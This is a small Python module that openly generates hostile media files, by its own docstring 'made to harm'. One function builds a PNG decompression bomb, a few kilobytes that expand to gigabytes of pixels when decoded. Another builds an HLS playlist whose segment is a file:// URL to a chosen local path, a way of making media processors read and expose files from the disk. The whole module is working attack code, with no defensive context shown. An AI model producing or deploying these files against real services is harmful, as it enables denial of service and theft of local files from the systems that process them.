"""Pictures and films that are made to harm: kilobytes that stand for gigabytes, lists that call themselves films."""

from __future__ import annotations

import struct
import zlib
from pathlib import Path


def bomb(width: int, height: int) -> bytes:
    """Return a black PNG of one bit a pixel, so many pixels wide and high (ISO/IEC 15948), packed to almost nothing."""
    packer = zlib.compressobj(9)
    row = b"\0" * (1 + (width + 7) // 8)
    data = b"".join(packer.compress(row * 64) for _ in range(height // 64)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def playlist(secret: Path) -> bytes:
    """Return a list of films (RFC 8216) that leads to another file of the disk."""
    return f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\nfile://{secret}\n#EXT-X-ENDLIST\n".encode()


def _chunk(name: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")
